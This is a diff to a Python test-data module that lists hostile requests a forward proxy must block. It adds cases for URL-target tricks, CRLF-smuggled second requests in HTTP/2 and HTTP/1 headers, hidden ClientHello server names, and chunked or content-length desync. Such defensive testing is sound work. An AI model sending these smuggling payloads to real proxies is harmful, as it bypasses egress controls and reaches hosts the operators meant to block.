@@ -1,4 +1,4 @@
-"""The hostile requests of battery E01 to E40 that a forward proxy must stop, as data: what to say, and when. Pure.
+"""The hostile requests of battery E01 to E47 that a forward proxy must stop, as data: what to say, and when. Pure.
 
 `{ok}` is a listed host, `{reader}` one that may only be read from, `{evil}` an unlisted one that resolves to the same
 server (as on a shared front), `{v4}`, `{v6}` and their spellings that server's addresses, `{port}` its port, `{raw}`
@@ -36,9 +36,10 @@ class Needs(StrEnum):
 class Case:
     """One attempt: CONNECT (or none), bytes in clear, TLS with a server name, then bytes or HTTP/2 header lists.
 
-    `sni` empty sends none; None speaks no TLS. `requests` are HTTP/2 header lists, one stream each. `hello` are the
-    server names of a ClientHello that is sent as it is, in its `form`. `credentials` are the client's own, none, or
-    wrong ones. `resolver`: the name server sees the mark, and no other server would.
+    `sni` empty sends none; None speaks no TLS. `requests` are HTTP/2 header lists, one stream each, and `content` what
+    follows the last of them. `hello` are the server names of a ClientHello that is sent as it is, in its `form`.
+    `credentials` are the client's own, none, or wrong ones. `resolver`: the name server sees the mark, and no other
+    server would.
     """
 
     id: str
@@ -48,6 +49,7 @@ class Case:
     sni: str | None = "{ok}"
     inside: str = GET
     requests: tuple[tuple[tuple[str, str], ...], ...] = ()
+    content: str = ""
     actor: str = "operator"
     needs: Needs = Needs.NOTHING
     credentials: str = "own"
@@ -63,7 +65,7 @@ class Case:
     @property
     def honest(self) -> "Case":
         """The control: the same destination, asked for the way a good client would, the raw port with raw bytes."""
-        own = replace(self, id=f"{self.id}-control", requests=(), hello=(), credentials="own")
+        own = replace(self, id=f"{self.id}-control", requests=(), content="", hello=(), credentials="own")
         if self.connect is None:
             return replace(
                 own, clear="GET http://{evil}:{port}/{mark} HTTP/1.1\r\nHost: {evil}:{port}\r\n\r\n", sni=None
@@ -102,6 +104,18 @@ _CONFUSABLE = (
 )  # fmt: skip
 _KEY = "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
 _UPGRADE = "Connection: Upgrade\r\nUpgrade: {0}\r\n" + _KEY
+
+_TARGETS = {
+    "E41": "https://{evil}:{port}/{mark}", "E41-userinfo": "@{evil}:{port}/{mark}", "E41-bare": "{evil}/{mark}",
+    "E41-blank": "/x {mark}", "E41-control": "/\x01{mark}",
+}  # fmt: skip
+_ENDED = " HTTP/1.1\r\nHost: {evil}:{port}\r\n\r\nGET /{mark}"
+_HIDING = {
+    "E42": _h2("{ok}:{port}", ("x-a", f"b\r\n\r\nGET /x{_ENDED} HTTP/1.1\r\nX-B: c"), path="/x"),
+    "E42-path": _h2("{ok}:{port}", path=f"/x{_ENDED}"),
+    "E42-method": ((":method", f"GET /x{_ENDED} HTTP/1.1\r\nX-A:"), *_h2("{ok}:{port}", path="/x")[1:]),
+    "E42-name": _h2("{ok}:{port}", ("x-a: b\r\nhost: {evil}:{port}\r\nx-{mark}", "c"), path="/x"),
+}
 
 CASES = (
     Case("E01", "CONNECT to an unlisted host", "{evil}:{port}", sni="{evil}", inside=_hosts("{evil}:{port}")),
@@ -168,4 +182,20 @@ CASES = (
     Case("E34-last", "a hello for two, the listed last", hello=("{mark}.{evil}", "{ok}")),
     Case("E39", "a large body to another Host", inside="POST /{mark} HTTP/1.1\r\nHost: {evil}:{port}\r\n"
          "Content-Length: 200000\r\n\r\n" + "{mark}" * 2000),
+    *(Case(name, "an HTTP/2 target that is no path", requests=(_h2("{ok}:{port}", path=path),))
+      for name, path in _TARGETS.items()),
+    Case("E41-http1", "an HTTP/1 target that is no path", inside=GET.replace("/{mark}", "@{evil}:{port}/{mark}")),
+    *(Case(name, "a second request in a part of an HTTP/2 head", requests=(head,))
+      for name, head in _HIDING.items()),
+    *(Case(f"E42-{name}", "bytes in an HTTP/1 field that end it for some",
+           inside=_hosts("{ok}:{port}").replace("\r\nConn", f"\r\n{field}\r\nConn"))
+      for name, field in {"cr": "X-A: a\rX-B: {mark}", "nul": "X-A: a\0{mark}", "blank": "X-A : {mark}"}.items()),
+    Case("E44", "a hello with another name encrypted in it", hello=("{ok}", "{mark}.{evil}"), form=Form.HIDDEN),
+    Case("E45", "a body where only reading is permitted", "{reader}:{port}", sni="{reader}", actor="node",
+         inside="GET /x HTTP/1.1\r\nHost: {reader}:{port}\r\nContent-Length: 2000\r\n\r\n" + "{mark}" * 120,
+         needs=Needs.PROFILE),
+    Case("E46", "an HTTP/2 body that is chunked too", requests=(_h2("{ok}:{port}", ("transfer-encoding", "chunked")),),
+         content=f"0\r\n\r\n{GET}"),
+    Case("E46-length", "an HTTP/2 body that is longer than it says", content=f"abc{GET}",
+         requests=(_h2("{ok}:{port}", ("content-length", "3"), path="/x"),)),
 )  # fmt: skip
